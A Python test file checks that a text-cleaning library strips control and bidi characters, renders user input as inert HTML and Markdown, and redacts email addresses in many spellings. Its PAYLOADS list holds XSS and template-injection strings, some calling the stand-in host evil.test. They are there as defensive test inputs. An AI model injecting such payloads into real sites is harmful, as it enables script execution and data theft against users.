"""People's words: cleaned at the door, and nothing but words on the way out."""

from __future__ import annotations

import json
import re
import sqlite3
import time
import unicodedata
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from hypothesis import given, strategies as st
from markdown_it import MarkdownIt

from impactlib.domain.text import LIMIT, block, clean, clean_line, inline, markdown, names_mail, without_mail
from tests.conftest import agree

FORBIDDEN = [*map(chr, [*range(0, 9), 11, 12, *range(14, 32), *range(127, 160)])]
FORBIDDEN += ["\ud800", "\udbff", "\udc00", "\udfff", "\ufdd0", "\ufdef", "\ufffe", "\uffff"]
FORBIDDEN += ["\u202a", "\u202e", "\u2066", "\u2069"]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>clic</a>",
    "[clic](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<form action=//evil.test><input name=key></form>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'</style>",
    "<object data=javascript:alert(1)></object>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</bdi></p><script>alert(1)</script>",
    "</textarea></title></style><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "<\x00script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}{{ config }}{% endraw %}",
    "%(name)s %s {0} ${x}",
]


class Read(HTMLParser):
    """Some HTML as a browser reads it: its tags, their attributes, and its words."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.words += "\n" if tag == "br" else ""

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.tags.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.tags.append("declaration")

    def unknown_decl(self, data: str) -> None:
        self.handle_decl(data)

    def handle_pi(self, data: str) -> None:
        self.handle_decl(data)


# At the door --------------------------------------------------------------------------------------


def test_a_character_that_breaks_a_format_or_reorders_text_is_dropped() -> None:
    def agrees(character: str) -> None:
        assert clean(f"a{character}b") == "ab"
        assert clean_line(f"a{character}b") == "ab"

    agree(FORBIDDEN, agrees)


def test_tabs_and_line_ends_stay_and_line_ends_are_plain() -> None:
    assert clean("un\tdeux\r\ntrois\rquatre\n\ncinq") == "un\tdeux\ntrois\nquatre\n\ncinq"


def test_a_name_is_one_line_without_needless_spaces() -> None:
    assert clean_line("  Ada \t Marie\r\nL. ") == "Ada Marie L."


def test_letters_are_composed_even_around_a_character_that_is_dropped() -> None:
    assert clean("Ine\u0300s") == "Inès"
    assert clean("Ine\x00\u0300s") == "Inès"


@pytest.mark.parametrize(
    "words",
    [
        "Inès & Łukasz",
        "Ολγα",
        "עדה",
        "أدا",
        "田中さん",
        "👩🏽\u200d🔬",
        "می\u200cخواهم",
        "1\u202f000 «\u00a0oui\u00a0»",
    ],
)
def test_the_words_of_any_language_are_left_as_they_are(words: str) -> None:
    assert clean(words) == unicodedata.normalize("NFC", words)


@given(st.text())
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    assert clean(clean(text)) == clean(text)
    assert clean_line(clean_line(text)) == clean_line(text)


@given(st.text(st.characters(codec=None)))
def test_a_clean_text_goes_through_sqlite_json_and_xml(text: str) -> None:
    cleaned = clean(text)
    with sqlite3.connect(":memory:") as db:
        assert db.execute("select ?", (cleaned,)).fetchone() == (cleaned,)
    db.close()
    assert json.loads(json.dumps(cleaned, ensure_ascii=False).encode()) == cleaned
    assert (ElementTree.fromstring(f"<t>{inline(cleaned)}</t>").findtext("bdi") or "") == cleaned


# On the way out: HTML -------------------------------------------------------------------------------


def test_a_payload_in_a_name_is_only_words_in_a_bdi() -> None:
    def agrees(payload: str) -> None:
        cleaned = clean_line(payload)
        seen = Read(str(inline(cleaned)))
        assert (seen.tags, seen.attributes, seen.words) == (["bdi"], set(), cleaned)

    agree(PAYLOADS, agrees)


def test_a_payload_in_a_note_is_only_words_in_paragraphs() -> None:
    def agrees(payload: str) -> None:
        cleaned = clean(f"{payload}\n{payload}\n\n{payload}")
        seen = Read(str(block(cleaned)))
        assert seen.tags == ["p", "br", "p"]
        assert seen.attributes == {"dir"}
        assert seen.words == cleaned.replace("\n\n", "")

    agree(PAYLOADS, agrees)


@given(st.text(st.sampled_from("<>\"'&;=/!-[]{}%ab \n\t")))
def test_no_text_makes_any_tag_but_ours(text: str) -> None:
    cleaned = clean(text)
    assert set(Read(str(block(cleaned))).tags) <= {"p", "br"}
    assert Read(str(inline(cleaned))).tags == (["bdi"] if cleaned else [])
    assert Read(str(inline(cleaned))).words == cleaned


def test_a_blank_line_makes_a_paragraph_and_a_line_end_a_break() -> None:
    assert block("un\ndeux\n\n\ntrois") == '<p dir="auto">un<br>deux</p><p dir="auto">trois</p>'


# On the way out: Markdown ---------------------------------------------------------------------------


def shown(source: str) -> Read:
    """Markdown as its most usual renderer shows it, HTML let through."""
    return Read(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(source))


MARKDOWN = [
    "# titre", "* point", "- point", "+ point", "1. point", "12) point", "> citation", "**gras** _penché_ ~~barré~~",
    "`code`", "```", "[lien](https://evil.test)", "![image](x.png)", "<https://evil.test>", "a | b", "---", "===",
    "$x^2$", "\\* antislash", "&amp; &copy;", "[ref]: https://evil.test", "fin  ", "2 * 3 * 4", "snake_case_name",
]  # fmt: skip


def test_markdown_shows_just_what_was_typed() -> None:
    def agrees(text: str) -> None:
        cleaned = clean_line(text)
        seen = shown(markdown(cleaned))
        assert (seen.tags, seen.words.rstrip("\n")) == (["p"], cleaned)

    agree([*PAYLOADS, *MARKDOWN], agrees)


def test_a_note_of_several_lines_is_one_line_of_markdown() -> None:
    seen = shown(markdown("un\n\n- deux\n# trois"))
    assert (seen.tags, seen.words) == (["p"], "un / - deux / # trois\n")


@given(st.text(st.sampled_from("*_`#<>[]()!&;|~$\\+-.=:1a \n")))
def test_no_text_makes_any_markdown(text: str) -> None:
    cleaned = clean_line(text)
    seen = shown(f"Note : {markdown(cleaned)}")
    assert seen.tags == ["p"]
    assert re.sub(r"\s+", " ", seen.words).strip() == f"Note : {cleaned}".strip()


@pytest.mark.parametrize(
    "address",
    [
        "camille@quartier.fr",
        "camille＠quartier.fr",
        "camille﹫quartier.fr",
        "camille @ quartier.fr",
        "camille @quartier.fr",
        "camille@\nquartier.fr",
        "camille\u202f@\u00a0quartier.fr",
        "camille@quartier．fr",
        "camille@quartier․fr",
        "camille@quartier。fr",
        "camille (at) quartier.fr",
        "camille[AT]quartier.fr",
        "camille [arobase] mail.quartier.fr",
        "camille%40quartier.fr",
        "ｃａｍｉｌｌｅ＠ｑｕａｒｔｉｅｒ．ｆｒ",
        "camille @ xn--ct-fka.xn--p1ai",
    ],
)
def test_an_address_is_found_in_any_spelling_and_only_it_is_taken_out(address: str) -> None:
    assert names_mail(address) and names_mail(f"ﬁn d’été…\n{address}, merci")
    assert without_mail(f"ﬁn d’été…\n{address}, ½ {address}.") == "ﬁn d’été…\n[…], ½ […]."


@pytest.mark.parametrize(
    "text",
    [
        "À @tous, demain. Merci",
        "3 @ 4",
        "3 @ 4.5",
        "à 3 h @ la mairie. Puis",
        "vu avec @camille.",
        "c’est (at) la mairie",
        "« ici » @ mairie.fr",
        "100%40 fois",
        "npm i @angular/core.js",
    ],
)
def test_what_is_no_address_stays(text: str) -> None:
    assert not names_mail(text) and without_mail(text) == text


@pytest.mark.parametrize(
    "piece", ["@", "a", "a ", "a@", "a @ ", "é.", "a%40", "a" * 63 + "@" + "b" * 63 + ".", "（", "ﷺ"]
)
def test_a_text_of_the_longest_is_looked_through_at_once(piece: str) -> None:
    text = (piece * LIMIT)[:LIMIT]
    began = time.process_time()
    without_mail(text)
    assert names_mail(text) == (piece == "a" * 63 + "@" + "b" * 63 + ".")
    assert time.process_time() - began < 2
